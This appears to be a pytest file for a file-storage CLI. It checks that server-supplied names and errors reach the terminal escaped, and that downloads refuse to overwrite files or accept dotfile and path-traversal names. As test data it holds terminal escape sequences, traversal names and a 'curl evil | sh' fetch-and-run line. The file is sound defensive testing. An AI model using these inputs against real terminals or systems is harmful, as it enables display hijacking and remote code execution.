"""Server text that reaches a terminal, and `files download` against hostile names.

Names and error details come from the server: escape sequences in them must reach the
terminal escaped (never raw ESC/BEL/CSI), rich markup in them must stay text, and --json
must keep the exact value. Downloads into a directory never replace a file without
--force and never take a dangerous name from the server; the result says what was checked.
"""

from __future__ import annotations

import io
import json
import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from rich.console import Console

from fluidcloud_async.cli import _progress
from fluidcloud_async.cli._output import terminal_safe
from fluidcloud_async.resources.files import Files

from .conftest import Cli, run_cli

HOSTILE = "\x1b]0;pwned\x07\x1b[2J[bold]loud[red]\x9b31m\x7f\u202etxt.exe"
ESCAPED = "\\u001b]0;pwned\\u0007\\u001b[2J[bold]loud[red]\\u009b31m\\u007f\\u202etxt.exe"
# Anything a terminal acts on; "\n" is the only control character output may hold.
RAW = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def assert_clean(*texts: str) -> None:
    for text in texts:
        found = RAW.search(text)
        assert found is None, f"raw {found[0]!r} in output: {text!r}"


def _upload(fc: Cli, tmp_path: Path, name: str, data: bytes = b"payload\n") -> dict[str, Any]:
    space = fc.json("spaces", "create", "hostile")["id"]
    src = tmp_path / "src" / name
    src.parent.mkdir(exist_ok=True)
    src.write_bytes(data)
    (file,) = fc.json("files", "upload", str(src), "--space", space, "--wait")
    return dict(file)


def test_escape_sequences_in_names_are_shown_escaped(fc: Cli, tmp_path: Path) -> None:
    """A file renamed to ESC]0;...BEL ESC[2J... : `files list` used to set the window title
    and clear the screen. Every human output escapes it; --json keeps the exact name."""
    file = _upload(fc, tmp_path, "plain.txt")
    renamed = fc("files", "rename", file["id"], HOSTILE)
    listed = fc("files", "list", "--space", file["space_id"])
    got = fc("files", "get", file["id"])
    waited = fc("files", "wait", file["id"])
    debug = fc("--debug", "files", "get", file["id"])
    for run in (renamed, listed, got, waited, debug):
        assert_clean(run.stdout, run.stderr)
    assert ESCAPED in listed.stdout and ESCAPED in got.stdout and ESCAPED in waited.stdout
    assert "[bold]loud[red]" in listed.stdout  # rich markup stays text

    raw = fc("--json", "files", "list", "--space", file["space_id"]).stdout
    assert_clean(raw)  # JSON escapes C0; the C1 and DEL characters are escaped as \uXXXX
    assert json.loads(raw)[0]["original_name"] == HOSTILE  # the exact value survives


class _HostileApi(BaseHTTPRequestHandler):
    """An API that answers every request with an error whose detail holds escapes."""

    def do_GET(self) -> None:
        body = json.dumps({"detail": f"no such file {HOSTILE}", "code": "x\x1b[31m"}).encode()
        self.send_response(404)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture
def hostile_api() -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), _HostileApi)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()
        thread.join(10)


def test_error_details_are_escaped(hostile_api: str) -> None:
    env = {"FLUIDCLOUD_BASE_URL": hostile_api, "FLUIDCLOUD_API_KEY": "fck_test_hostile"}
    file_id = "9f1c2d3e-4a5b-6c7d-8e9f-0a1b2c3d4e5f"
    plain = run_cli("files", "get", file_id, env=env)
    debug = run_cli("--debug", "files", "get", file_id, env=env)
    assert plain.code == debug.code == 1
    assert "no such file \\u001b]0;pwned\\u0007" in plain.stderr
    assert "Traceback" in debug.stderr  # --debug prints it, escaped like the rest
    assert_clean(plain.stdout, plain.stderr, debug.stdout, debug.stderr)


def test_progress_labels_and_log_lines_are_escaped(monkeypatch: pytest.MonkeyPatch) -> None:
    """The live display (a terminal only): bar labels and log lines, markup not parsed."""
    buf = io.StringIO()

    def fake_console(*, stderr: bool = False, width: int | None = None) -> Console:
        return Console(file=buf, force_terminal=True, markup=False, width=200)

    monkeypatch.setattr(_progress, "console", fake_console)
    display = _progress.RichDisplay(10, 2)
    task = display.add_file(HOSTILE, 10)
    task.update(5)
    display.log(f"FAILED {HOSTILE}: why")
    display.progress.refresh()
    display.close()
    out = buf.getvalue()
    # rich writes its own control sequences on a terminal; the server's must be escaped.
    assert "\x1b]0;pwned" not in out and "\x07" not in out and "\x9b" not in out
    assert "\\u001b]0;pwned" in out and "[bold]loud[red]" in out


def test_download_refuses_to_replace_without_force(fc: Cli, tmp_path: Path) -> None:
    file = _upload(fc, tmp_path, "report.txt", b"new bytes\n")
    out = tmp_path / "out"
    out.mkdir()
    mine = out / "report.txt"
    mine.write_bytes(b"precious\n")
    mine.chmod(0o640)
    refused = fc("files", "download", file["id"], str(out), code=1)
    assert "--force" in refused.stderr
    assert mine.read_bytes() == b"precious\n"
    explicit = fc("files", "download", file["id"], str(mine), code=1)  # a file path too
    assert "exists" in explicit.stderr and mine.read_bytes() == b"precious\n"
    forced = fc("files", "download", file["id"], str(out), "--force")
    assert mine.read_bytes() == b"new bytes\n"
    assert mine.stat().st_mode & 0o777 == 0o640  # --force keeps the replaced file's mode
    assert "size and SHA-256 verified" in forced.stdout
    assert sorted(p.name for p in out.iterdir()) == ["report.txt"]  # no temporaries


def test_dotfile_from_the_server_never_lands_as_a_dotfile(fc: Cli, tmp_path: Path) -> None:
    """A file uploaded as .bashrc used to replace the user's (and make it 0600)."""
    file = _upload(fc, tmp_path, ".bashrc", b"curl evil | sh\n")
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_bytes(b"mine\n")
    result = fc("--json", "files", "download", file["id"], str(home))
    info = json.loads(result.stdout)
    assert info["path"] == str(home / file["id"])
    assert (home / ".bashrc").read_bytes() == b"mine\n"
    assert (home / file["id"]).read_bytes() == b"curl evil | sh\n"


def test_escape_name_download_gets_a_safe_name(fc: Cli, tmp_path: Path) -> None:
    file = _upload(fc, tmp_path, "plain.txt")
    fc("files", "rename", file["id"], "\x1b]0;pwned\x07.sh")
    out = tmp_path / "out"
    out.mkdir()
    result = fc("files", "download", file["id"], str(out))
    assert_clean(result.stdout, result.stderr)
    assert [p.name for p in out.iterdir()] == [file["id"] + ".sh"]


@pytest.mark.parametrize(
    ("name", "suffix"),
    [("", ""), ("..", ""), ("../../x.txt", ".txt"), ("x" * 300, ""), ("a\\b", "")],
    ids=["empty", "dotdot", "path", "300-chars", "backslash"],
)
def test_names_the_emulator_would_refuse(
    fcx: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str, suffix: str
) -> None:
    """Names a less careful server could send (the emulator refuses them): the record is
    altered on its way in; the bytes still come from the emulator's storage."""
    file = _upload(fcx, tmp_path, "plain.txt")
    real_get = Files.get

    async def get(self: Files, file_id: str) -> Any:
        record = await real_get(self, file_id)
        return record.model_copy(update={"original_name": name})

    monkeypatch.setattr(Files, "get", get)
    out = tmp_path / "out"
    out.mkdir()
    fcx("files", "download", file["id"], str(out), "-q")
    assert [p.name for p in out.iterdir()] == [file["id"] + suffix]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out", "src"]  # nothing escaped


def test_result_says_what_was_checked(
    fcx: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """No SHA-256 on the record: the result used to say "SHA-256 verified" anyway."""
    file = _upload(fcx, tmp_path, "plain.txt")
    with_hash = fcx.json("files", "download", file["id"], str(tmp_path / "a"))
    assert with_hash["checked"] == ["size", "sha256"] and with_hash["verified"] is True
    unverified = fcx.json("files", "download", file["id"], str(tmp_path / "b"), "--no-verify")
    assert unverified["checked"] == ["size"] and unverified["verified"] is False

    real_get = Files.get

    async def get(self: Files, file_id: str) -> Any:
        return (await real_get(self, file_id)).model_copy(update={"sha256": None})

    monkeypatch.setattr(Files, "get", get)
    text = fcx("files", "download", file["id"], str(tmp_path / "c"), "-q").stdout
    assert "size verified; no SHA-256 on record" in text
    assert "SHA-256 verified" not in text
    info = fcx.json("files", "download", file["id"], str(tmp_path / "d"))
    assert info["verified"] is False and info["sha256_verified"] is False
    assert info["checked"] == ["size"]


def test_terminal_safe() -> None:
    assert terminal_safe(HOSTILE) == ESCAPED
    assert terminal_safe("a\nb") == "a\\u000ab"
    assert terminal_safe("a\nb\x1b", multiline=True) == "a\nb\\u001b"
    assert terminal_safe("café 日本 ✓ C:\\dir") == "café 日本 ✓ C:\\dir"
    assert terminal_safe("\udce9") == "\\udce9"  # an undecodable byte: printable now
